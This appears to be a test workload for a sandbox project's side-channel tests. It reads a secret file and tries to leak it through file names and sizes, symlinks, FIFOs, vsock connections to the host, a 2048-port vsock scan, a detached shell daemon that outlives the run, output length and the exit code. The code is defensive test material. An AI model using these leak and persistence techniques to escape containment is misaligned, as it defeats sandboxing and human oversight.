// The hostile workload of test/rooms/side-channels: every way around the outputs it can think of.
// Its own account goes into the sealed output (report.json), which only the investigator reads.
import { spawn, execFileSync } from "node:child_process";
import { createRequire } from "node:module";
import fs from "node:fs";

const secret = fs.readFileSync("/data/in/secret.txt", "utf8").trim();
const hex = Buffer.from(secret).toString("hex");
const b64 = Buffer.from(secret).toString("base64url");
const n = (secret.charCodeAt(secret.length - 1) % 20) + 5; // a count that carries bits
const report = { ports: [], relay: [], notes: [] };
const S = "/data/out/sealed";

// 1. Names, sizes and counts in the sealed output, and the secret as a name in the open one.
for (const name of [secret, hex, b64]) fs.writeFileSync(`${S}/${name}.txt`, secret.repeat(3));
for (let i = 0; i < n; i++) fs.writeFileSync(`${S}/count-${i}`, Buffer.alloc(i * 37, 1));
fs.writeFileSync(`/data/out/open/${secret}.txt`, `${secret}\n`);
// 2. Names in the audit trail: strays, a symlink, a FIFO, a name that is not UTF-8.
fs.writeFileSync(`/tmp/${secret}`, "x");
fs.writeFileSync(`/tmp/${hex}`, "x");
fs.symlinkSync("/data/in/secret.txt", `${S}/link-${secret}`);
try {
  execFileSync("/bin/busybox", ["mkfifo", `${S}/fifo-${secret}`]);
} catch (err) {
  report.notes.push(`mkfifo: ${err.message}`);
}
fs.writeFileSync(Buffer.concat([Buffer.from(`${S}/bad-`), Buffer.from([0xff, 0xfe]), Buffer.from(".txt")]), "x");

// 3. vsock: the agent port again and again (a count), the attestation relay with the secret as
// report_data, and every firewall port in a range (which answer?).
const require = createRequire("/opt/airlock/node_modules/");
const { VsockSocket } = require("node-vsock-linux-x64-gnu");
const tryPort = (cid, port, payload) =>
  new Promise((resolve) => {
    let done = false;
    let sock;
    const finish = (outcome) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      try {
        sock.close();
      } catch {
        // closed
      }
      resolve(outcome);
    };
    const timer = setTimeout(() => finish("timeout"), 3000);
    sock = new VsockSocket((err, name) => {
      if (err) return finish(`error: ${err.message}`);
      if (name === "_connect") {
        if (payload) {
          try {
            sock.writeBuffer(payload);
          } catch {
            // the peer closed
          }
        }
        finish("connected");
      } else if (name === "_error") finish("refused");
    });
    sock.setMaxConnectionAttempts(1);
    sock.connect(cid, port);
  });
for (let i = 0; i < 7; i++) await tryPort(3, 5000, Buffer.from(secret));
const request = Buffer.alloc(64 + 8);
Buffer.from(secret).copy(request, 8);
for (let i = 0; i < 5; i++) report.relay.push(await tryPort(3, 5001, request));
// A fast scan with the guest's own syscall shim (node-vsock waits a second after each refusal):
// a non-blocking connect, then SO_ERROR once the socket is writable or 2 s have passed.
const shim = require("airlock-native");
const scan = (cid, port) =>
  new Promise((resolve) => {
    let fd;
    try {
      fd = shim.connectVsock(cid, port);
    } catch (err) {
      return resolve(`error: ${err.message}`);
    }
    let done = false;
    const poller = new shim.Poller(fd, () => finish(false));
    const timer = setTimeout(() => finish(true), 2000);
    const finish = (timedOut) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      poller.close();
      const e = shim.socketError(fd);
      shim.close(fd);
      resolve(timedOut ? "timeout" : e === 0 ? "connected" : `errno ${e}`);
    };
    poller.start(false, true);
  });
report.scanned = 0;
for (const port of [...Array.from({ length: 2048 }, (_, i) => i + 1), 5000, 5001, 5002, 8080, 10000, 65535]) {
  report.scanned++;
  if ((await scan(3, port)) === "connected") report.ports.push(port);
}
for (const port of [1024, 1025, 1026, 1027]) report.notes.push(`host ${port}: ${await tryPort(2, port, Buffer.from(secret))}`);

// 4. A daemon in its own session that outlives the workload: it keeps growing a file and swaps
// another for a FIFO while the agent collects.
spawn("/bin/sh", ["-c", `while :; do echo ${secret} >> ${S}/grow.txt; rm -f ${S}/swap; busybox mkfifo ${S}/swap; rm -f ${S}/swap; echo x > ${S}/swap; done`], { detached: true, stdio: "ignore" }).unref();

// 5. The console of a room that declares none: its size would carry bits.
process.stdout.write(secret.repeat(n));

fs.writeFileSync(`${S}/report.json`, JSON.stringify(report));
// 6. The exit status: 8 bits per run.
process.exit(secret.charCodeAt(0));
